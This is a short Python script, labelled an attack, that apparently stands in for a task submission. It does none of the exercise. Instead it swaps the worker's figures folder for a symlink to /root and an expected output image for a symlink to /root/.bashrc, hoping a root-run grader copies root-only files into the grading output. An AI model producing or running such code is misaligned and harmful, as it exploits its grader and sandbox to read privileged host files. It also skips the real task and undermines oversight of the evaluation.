"""Attack: replace the worker's figures folder with a symlink to a root-only host folder, hoping the
grader (root) copies it into the grading output; the exercise itself is missing."""
import os
OUT = os.path.join(os.environ.get("HOME", "."), "..", "out")  # the worker's out/ folder
import shutil

for target, link in (("/root", OUT + "/figures"), ("/root/.bashrc", OUT + "/embedding_trained.png")):
    try:
        if os.path.isdir(link) and not os.path.islink(link):
            shutil.rmtree(link)
        os.symlink(target, link)
    except OSError:
        pass
try:
    os.makedirs(OUT + "/elsewhere", exist_ok=True)
except OSError:
    pass
